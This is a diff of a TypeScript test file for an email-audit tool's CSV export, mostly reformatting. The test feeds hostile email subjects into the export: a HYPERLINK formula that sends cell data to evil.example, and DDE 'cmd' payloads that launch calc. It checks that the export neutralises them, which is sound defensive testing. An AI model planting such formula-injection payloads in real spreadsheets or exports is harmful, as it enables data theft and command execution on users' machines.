@@ -5,12 +5,16 @@ import { byCodeUnits, cells } from "./csv.ts";
 import { delivery, headerBlockOf, withHeader } from "./mail.ts";
 
 /** Fixture e2e/24 (a plaintext hand-off from Google) delivered four times with hostile subjects. */
-const HOSTILE_SUBJECTS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"];
+const HOSTILE_SUBJECTS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"];
 
 function hostileAudit() {
   const audit = createAudit();
   HOSTILE_SUBJECTS.forEach((subject, i) => {
-    const headers = withHeader(delivery(headerBlockOf("e2e/24-stanford-postini-google-kvack.eml"), `2024-01-0${i + 1}T00:00:00Z`, `hostile-${i}`), "Subject", subject);
+    const headers = withHeader(
+      delivery(headerBlockOf("e2e/24-stanford-postini-google-kvack.eml"), `2024-01-0${i + 1}T00:00:00Z`, `hostile-${i}`),
+      "Subject",
+      subject,
+    );
     audit.addHeaders(headers, { kind: "file", path: "inbox.mbox", index: i + 1 });
   });
   return audit.result();
@@ -19,14 +23,16 @@ function hostileAudit() {
 describe("audit exports", () => {
   it("a subject starting with =, +, - or @ cannot run as a spreadsheet formula (CSV injection)", () => {
     const csv = flaggedCsv(hostileAudit(), { personal: true });
-    const subjects = cells(csv).slice(1).map((row) => row[14] ?? "");
+    const subjects = cells(csv)
+      .slice(1)
+      .map((row) => row[14] ?? "");
     assert.deepEqual(subjects.sort(byCodeUnits), HOSTILE_SUBJECTS.map((subject) => `'${subject}`).sort(byCodeUnits));
     for (const row of cells(csv)) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
   });
 
   it("a cell starting with a tab or a carriage return cannot run as a formula either", () => {
     assert.equal(csvField("\t=1+1"), "'\t=1+1");
-    assert.equal(csvField("\r=1+1"), "\"'\r=1+1\"");
+    assert.equal(csvField("\r=1+1"), '"\'\r=1+1"');
     assert.equal(csvField("plain"), "plain");
     assert.equal(csvField('say "hi", then go'), '"say ""hi"", then go"');
     assert.equal(csvField(-3), "-3", "our own numbers stay numbers");
@@ -49,7 +55,11 @@ describe("audit exports", () => {
     }
     assert.ok(JSON.stringify(auditForExport(audit, { personal: true })).includes("smbarber@stanford.edu"));
     const thunderbird = createAudit();
-    thunderbird.addHeaders(headerBlockOf("e2e/24-stanford-postini-google-kvack.eml"), { kind: "thunderbird", id: 7, headerMessageId: "<CA+DLN@mail.gmail.com>" });
+    thunderbird.addHeaders(headerBlockOf("e2e/24-stanford-postini-google-kvack.eml"), {
+      kind: "thunderbird",
+      id: 7,
+      headerMessageId: "<CA+DLN@mail.gmail.com>",
+    });
     assert.deepEqual(auditForExport(thunderbird.result(), { personal: false }).flagged.items[0]?.ref, { kind: "thunderbird", id: 7, headerMessageId: null });
   });
 
@@ -57,7 +67,21 @@ describe("audit exports", () => {
     const audit = hostileAudit();
     assert.deepEqual(cells(groupsCsv(audit))[1]?.slice(0, 11), ["google.com", "verified", "4", "0", "0", "4", "0", "0", "0", "100", "0"]);
     assert.deepEqual(cells(periodsCsv(audit, "month")), [
-      ["month", "counted", "encrypted", "weak", "plaintext", "unknown", "encrypted-pct", "weak-pct", "plaintext-pct", "unknown-pct", "internal", "no-received", "dated-by-date-header"],
+      [
+        "month",
+        "counted",
+        "encrypted",
+        "weak",
+        "plaintext",
+        "unknown",
+        "encrypted-pct",
+        "weak-pct",
+        "plaintext-pct",
+        "unknown-pct",
+        "internal",
+        "no-received",
+        "dated-by-date-header",
+      ],
       ["2024-01", "4", "0", "0", "4", "0", "0", "0", "100", "0", "0", "0", "0"],
     ]);
   });
